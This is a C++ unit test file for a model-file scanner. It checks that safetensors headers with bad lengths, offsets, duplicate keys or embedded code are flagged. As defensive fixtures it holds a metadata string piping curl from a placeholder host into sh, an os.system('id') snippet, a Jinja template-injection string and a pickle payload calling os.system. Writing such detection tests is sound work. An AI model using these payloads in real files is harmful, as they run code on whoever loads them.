// SPDX-License-Identifier: GPL-3.0-or-later
// safetensors: what the header says, and each thing that can be wrong with it.
#include "tests/unit/check.h"
#include "tests/unit/model_bytes.h"

using namespace cupel;
using test::Judged;

namespace {

std::string fileOf(const std::string& header, const std::string& data)
{
    return test::number(header.size(), 8) + header + data;
}

std::string eight(std::string_view begin = {})
{
    std::string out(begin);
    out.resize(8, '\1');
    return out;
}

Judged judged(const std::string& header, const std::string& data)
{
    return {fileOf(header, data), "a.safetensors"};
}

} // namespace

CUPEL_TEST(an_ordinary_file_has_no_findings)
{
    const auto file = judged(R"({"__metadata__":{"format":"pt"},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},)"
                             R"("b":{"dtype":"BF16","shape":[],"data_offsets":[8,10]}}   )",
        eight() + "xy");
    CHECK_EQ(file.all(), "");
    CHECK(file.complete());
    CHECK_EQ(file.analysis.facts.format, "safetensors");
    CHECK_EQ(file.model().tensorCount, 2);
    CHECK_EQ(file.model().parameterCount, 3);
    CHECK_EQ(file.model().tensors.at(0).shape.at(0), 2);
    CHECK_EQ(file.model().tensors.at(1).dtype, "BF16");
    CHECK_EQ(file.model().tensors.at(1).bytes.size(), 2);
    CHECK_EQ(file.model().metadata.at(0).value, "pt");
    CHECK_EQ(file.analysis.facts.coverage.understood, file.analysis.facts.coverage.total);
    CHECK_EQ(judged("{}", "").all(), "");
    CHECK_EQ(judged(R"({"a":{"dtype":"F4","shape":[4],"data_offsets":[0,2]}})", "xy").all(), "");
    CHECK_EQ(judged(R"({"a":{"dtype":"F32","shape":[0,9],"data_offsets":[0,0]}})", "").all(), "");
}

CUPEL_TEST(lengths_that_cannot_be)
{
    for (const auto length : {std::uint64_t{0}, std::uint64_t{3}, std::uint64_t{100'000'001}, std::uint64_t{1} << 63}) {
        const Judged file(
            test::number(length, 8) + R"({"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}})", "a.safetensors");
        CHECK_EQ(file.analysis.facts.format, "safetensors");
        CHECK(!file.analysis.findings.empty());
        CHECK(file.finding("CUP-SAFETENSORS-LENGTH") != nullptr || length == 3);
        CHECK(!file.complete());
    }
    const Judged tiny(std::string(4, '\0'), "a.safetensors");
    CHECK(tiny.finding("CUP-SAFETENSORS-LENGTH") != nullptr);
    CHECK_EQ(Judged("", "a.safetensors").all(), "MODEL-EMPTY:low");
    const Judged unnamed(
        test::number(1ULL << 40, 8) + R"({"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}})", "download");
    CHECK(unnamed.finding("CUP-SAFETENSORS-LENGTH") != nullptr);
}

CUPEL_TEST(headers_that_are_not_what_they_have_to_be)
{
    struct Case {
        const char* header;
        const char* data;
        const char* rule;
    };
    const Case cases[] = {
        {R"([1,2])", "", "CUP-SAFETENSORS-HEADER"},
        {R"({"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},})", "12345678", "CUP-SAFETENSORS-HEADER"},
        {"{\"a\xff\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]}}", "12345678", "CUP-SAFETENSORS-HEADER"},
        {R"({"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}zz)", "12345678", "CUP-SAFETENSORS-HEADER"},
        {R"({"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"\u0061":{"dtype":"U8","shape":[4],"data_offsets":[4,8]}})",
            "12345678", "CUP-SAFETENSORS-DUPLICATE"},
        {R"({"a":{"dtype":"U8","dtype":"I8","shape":[8],"data_offsets":[0,8]}})", "12345678",
            "CUP-SAFETENSORS-DUPLICATE"},
        {R"({"__metadata__":{"a":1}})", "", "CUP-SAFETENSORS-METADATA"},
        {R"({"__metadata__":"a"})", "", "CUP-SAFETENSORS-METADATA"},
        {R"({"a":7})", "", "CUP-SAFETENSORS-ENTRY"},
        {R"({"a":{"dtype":"U8","data_offsets":[0,8]}})", "12345678", "CUP-SAFETENSORS-ENTRY"},
        {R"({"a":{"dtype":"Q9","shape":[8],"data_offsets":[0,8]}})", "12345678", "CUP-SAFETENSORS-ENTRY"},
        {R"({"a":{"dtype":"U8","shape":[8.0],"data_offsets":[0,8]}})", "12345678", "CUP-SAFETENSORS-ENTRY"},
        {R"({"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8.0]}})", "12345678", "CUP-SAFETENSORS-SIZE"},
        {R"({"a":{"dtype":"U8","shape":[8],"data_offsets":[-8,0]}})", "12345678", "CUP-SAFETENSORS-SIZE"},
        {R"({"a":{"dtype":"U8","shape":[8],"data_offsets":[8,0]}})", "12345678", "CUP-SAFETENSORS-SIZE"},
        {R"({"a":{"dtype":"U8","shape":[9],"data_offsets":[0,9]}})", "12345678", "CUP-SAFETENSORS-SIZE"},
        {R"({"a":{"dtype":"F32","shape":[3],"data_offsets":[0,8]}})", "12345678", "CUP-SAFETENSORS-SIZE"},
        {R"({"a":{"dtype":"F4","shape":[3],"data_offsets":[0,1]}})", "1", "CUP-SAFETENSORS-SIZE"},
        {R"({"a":{"dtype":"U8","shape":[4294967296,4294967296,4294967296,4294967296,256],"data_offsets":[0,0]}})", "",
            "CUP-SAFETENSORS-SIZE"},
        {R"({"a":{"dtype":"U8","shape":[6],"data_offsets":[0,6]},"b":{"dtype":"U8","shape":[6],"data_offsets":[2,8]}})",
            "12345678", "CUP-SAFETENSORS-OVERLAP"},
        {R"({"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]},"b":{"dtype":"U8","shape":[2],"data_offsets":[6,8]}})",
            "12345678", "CUP-SAFETENSORS-HIDDEN"},
        {R"({"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]}})", "12345678", "CUP-SAFETENSORS-HIDDEN"},
        {R"({"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8],"run":"x"}})", "12345678", "CUP-SAFETENSORS-FIELD"},
        {R"({"":{"dtype":"U8","shape":[8],"data_offsets":[0,8]}})", "12345678", "CUP-SAFETENSORS-NAME"},
        {R"~({"__metadata__":{"note":"import os; os.system('id')"}})~", "", "CUP-MODEL-CODE-TEXT"},
        {R"~({"__metadata__":{"chat_template":"{{ x['\u005f_class__'] }}"}})~", "", "CUP-TEMPLATE-CODE"},
        {R"({"__metadata__":{"note":"curl http://h.invalid/a \u007c sh"}})", "", "CUP-MODEL-CODE-TEXT"},
    };
    for (const auto& one : cases) {
        const auto file = judged(one.header, one.data);
        if (!CHECK(file.finding(one.rule) != nullptr)) {
            CHECK_EQ(file.all(), one.header);
        }
    }
    CHECK_EQ(judged(R"({"__metadata__":{"note":"retrieval(x), see wget https://h.invalid/model"}})", "").all(), "");
    const auto deep = judged(R"({"a":)" + std::string(50'000, '[') + std::string(50'000, ']') + "}", "");
    CHECK(deep.finding("CUP-SAFETENSORS-HEADER") != nullptr);
    CHECK(!deep.complete());
}

CUPEL_TEST(what_stands_where_numbers_should_be)
{
    const std::string header = R"({"a":{"dtype":"U8","shape":[64],"data_offsets":[0,64]}})";
    const auto with = [&](std::string begin) {
        begin.resize(64, '\2');
        return judged(header, begin);
    };
    using namespace std::string_literals;
    const auto pickle = with("\x80\x02"
                             "cos\nsystem\nX\x02\0\0\0id\x85R."s);
    CHECK(pickle.finding("CUP-MODEL-CARRIED-PICKLE") != nullptr);
    CHECK_EQ(pickle.children.size(), 1);
    CHECK(with("\x7F"
               "ELF\2\1\1")
              .finding("CUP-MODEL-CARRIED-PROGRAM")
        != nullptr);
    CHECK_EQ(with("MZ").all(), "");
    CHECK_EQ(with("PK\3\4").all(), "MODEL-CARRIED-ARCHIVE:medium");
    CHECK_EQ(with("\x80\3").all(), "");
}

CUPEL_TEST(a_pointer_is_no_model)
{
    const Judged file("version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n", "a.safetensors");
    CHECK_EQ(file.all(), "MODEL-POINTER:low");
}

CUPEL_TEST(headers_of_very_many_tensors_are_read)
{
    constexpr unsigned count = 300'000;
    std::string header = "{";
    for (unsigned i = 0; i < count; ++i) {
        const auto at = std::to_string(i);
        header += (i == 0 ? "\"" : ",\"") + at + R"(":{"dtype":"U8","shape":[1],"data_offsets":[)" + at + ','
            + std::to_string(i + 1) + "]}";
    }
    const auto file = judged(header + '}', std::string(count, '\1'));
    CHECK_EQ(file.all(), "");
    CHECK(file.complete());
    CHECK_EQ(file.model().tensorCount, count);
}
